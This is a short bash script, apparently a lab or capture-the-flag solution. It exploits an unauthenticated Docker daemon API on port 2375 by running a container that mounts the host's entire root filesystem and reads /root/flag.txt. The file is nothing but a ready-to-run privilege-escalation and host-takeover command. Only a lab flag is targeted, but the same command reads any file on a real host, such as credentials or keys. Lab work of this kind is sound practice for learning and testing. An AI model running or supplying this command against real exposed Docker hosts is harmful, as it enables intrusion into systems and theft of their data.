#!/bin/bash
# Whoever speaks to the API may mount the root directory of the Docker host.
set -euo pipefail

docker --host tcp://dockerhost:2375 run --rm --volume /:/host lab/bb cat /host/root/flag.txt
